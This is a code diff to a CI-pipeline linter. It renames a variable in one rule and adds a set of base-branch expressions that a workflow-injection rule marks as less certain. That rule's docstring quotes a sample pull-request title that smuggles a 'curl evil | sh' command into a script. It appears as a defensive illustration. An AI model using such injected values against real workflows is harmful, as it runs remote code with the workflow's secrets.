@@ -25,13 +25,13 @@ def targets_ship_what_they_say(context: Context) -> Iterator[Problem]:
     names |= {long: each for long, each in LONG.items() if each in names.values()}
     for file, at in context.each("pipeline"):
         kind, _, target = at.more.partition(" ")
-        meant = {names[word] for word in WORD.findall(target.lower()) if word in names} if kind == "recipe" else set()
-        if len(meant) != 1 or not DELIVERS.search(at.text):
+        named = {names[word] for word in WORD.findall(target.lower()) if word in names} if kind == "recipe" else set()
+        if len(named) != 1 or not DELIVERS.search(at.text):
             continue
-        mentioned = {names[word] for word in WORD.findall(_without_comment(at.text).lower()) if word in names} - meant
-        if mentioned and not meant & {names.get(word) for word in WORD.findall(at.text.lower())}:
+        mentioned = {names[word] for word in WORD.findall(_without_comment(at.text).lower()) if word in names} - named
+        if mentioned and not named & {names.get(word) for word in WORD.findall(at.text.lower())}:
             message = f"the target {target} works with {sorted(mentioned)[0]}"
-            yield Problem("FILE026", message, place(file, at), f"name {sorted(meant)[0]} here, or rename the target")
+            yield Problem("FILE026", message, place(file, at), f"name {sorted(named)[0]} here, or rename the target")
 
 
 def _environments(context: Context) -> Sequence[Environment]:
@@ -74,17 +74,22 @@ def _fix(target: str) -> str:
     return f"add the target {target}, or fix its name"
 
 
+OF_A_BASE = frozenset({"github.base_ref", "github.event.pull_request.base.ref"})
+
+
 @rule("FILE028")
 def scripts_take_no_expressions(context: Context) -> Iterator[Problem]:
     """A script of a workflow has no expression of the event in it.
 
     `${{ github.event.pull_request.title }}` is put into the script before a shell reads it: a title of
-    `"; curl evil | sh; "` is run, with the workflow's token and secrets. Give it by `env:`, and write `"$TITLE"`.
+    `"; curl evil | sh; "` is run, with the workflow's token and secrets. Give it by `env:`, and write `"$TITLE"`. The
+    branch that a pull request is for, which only who may write can name, is told with `--strict`.
     """
     for file, at in context.everywhere("pipeline"):
         if at.more == "expression":
             message = f"{at.text} becomes a part of this script, and another person chooses the value"
-            yield Problem("FILE028", message, place(file, at), 'give it by env:, and write "$NAME" in the script')
+            mend, sure = 'give it by env:, and write "$NAME" in the script', at.text not in OF_A_BASE
+            yield Problem("FILE028", message, place(file, at), mend, sure=sure)
 
 
 @rule("FILE029")
